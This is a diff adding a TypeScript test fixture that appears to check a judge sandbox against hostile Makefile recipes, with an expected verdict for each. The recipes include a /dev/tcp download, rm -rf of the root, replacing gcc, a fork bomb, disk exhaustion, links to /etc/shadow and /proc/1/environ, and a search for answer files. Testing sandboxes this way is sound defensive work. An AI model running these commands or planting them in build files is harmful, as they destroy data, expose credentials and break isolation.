@@ -1,0 +1,89 @@
+/** Attacks by what is built rather than by what runs: a kernel problem whose build files the submission may change. */
+export interface BuildAttack {
+  name: string;
+  attack: string;
+  /** Any of these is right. */
+  verdicts: string[];
+  /** Laid over the base: `main.c`, which adds two numbers, and a `Makefile` that builds `program` from it. */
+  files: Record<string, string>;
+  commands: string[];
+}
+
+const make = (recipe: string): Pick<BuildAttack, 'files' | 'commands'> => ({
+  files: { Makefile: `program: main.c\n${recipe.replace(/^/gm, '\t')}\n` },
+  commands: ['make -s'],
+});
+const BUILT = 'gcc -static -o program main.c';
+
+export const BUILD_ATTACKS: readonly BuildAttack[] = [
+  {
+    ...{ name: 'leave-daemon', attack: 'leaves a process behind that goes on building', verdicts: ['AC'] },
+    ...make(`${BUILT}\n(setsid sh -c 'while true; do date > left; done' >/dev/null 2>&1 &)`),
+  },
+  {
+    ...{ name: 'call-out', attack: 'fetches what it builds from elsewhere', verdicts: ['CE'] },
+    ...make(`bash -c 'cat < /dev/tcp/1.1.1.1/80 > program'`),
+  },
+  {
+    ...{ name: 'remove-everything', attack: 'removes every file it can', verdicts: ['CE'] },
+    ...make('rm -rf --no-preserve-root / 2>/dev/null; false'),
+  },
+  {
+    ...{ name: 'change-the-toolchain', attack: 'replaces the compiler for whoever comes next', verdicts: ['CE'] },
+    ...make('cp /bin/true /usr/bin/gcc'),
+  },
+  {
+    ...{ name: 'fork-bomb', attack: 'forks without end while it builds', verdicts: ['CE'] },
+    ...make(`bash -c 'f() { f | f & }; f; wait; exit 1'`),
+  },
+  {
+    ...{ name: 'fill-the-disk', attack: 'writes until nothing more fits', verdicts: ['CE'] },
+    ...make('cat /dev/zero > large'),
+  },
+  {
+    ...{ name: 'many-files', attack: 'makes files until none more can be made', verdicts: ['CE'] },
+    ...make(`bash -c 'for i in {1..200000}; do : > f$i || exit 1; done' 2>/dev/null`),
+  },
+  {
+    ...{ name: 'endless-words', attack: 'prints without end', verdicts: ['CE'] },
+    ...make('yes'),
+  },
+  {
+    ...{ name: 'sleep', attack: 'waits for ever', verdicts: ['CE'] },
+    ...make('sleep infinity'),
+  },
+  {
+    ...{ name: 'artefact-link', attack: 'makes its output a link to a secret of the machine', verdicts: ['CE'] },
+    ...make('ln -s /etc/shadow program'),
+  },
+  {
+    ...{ name: 'artefact-link-above', attack: 'makes its output a link to what is outside', verdicts: ['CE'] },
+    ...make('ln -s ../../../../proc/1/environ program'),
+  },
+  {
+    ...{ name: 'artefact-pipe', attack: 'makes its output a pipe nobody writes to', verdicts: ['CE'] },
+    ...make('mkfifo program'),
+  },
+  {
+    ...{ name: 'artefact-folder', attack: 'makes its output a folder', verdicts: ['CE'] },
+    ...make('mkdir program'),
+  },
+  {
+    ...{ name: 'artefact-huge', attack: 'makes its output larger than anything may be', verdicts: ['CE'] },
+    ...make('truncate -s 8T program'),
+  },
+  {
+    ...{
+      name: 'artefact-hard-link',
+      attack: 'makes its output a second name of a file of the machine',
+      verdicts: ['CE'],
+    },
+    ...make('ln /etc/passwd program'),
+  },
+  {
+    ...{ name: 'look-around', attack: 'looks for tests and for other submissions', verdicts: ['AC'] },
+    ...make(
+      `if find / -xdev -name '*.ans' -not -path '/proc/*' 2>/dev/null | grep .; then false; fi\nif ls /box/* 2>/dev/null | grep -v work; then false; fi\n${BUILT}`,
+    ),
+  },
+];
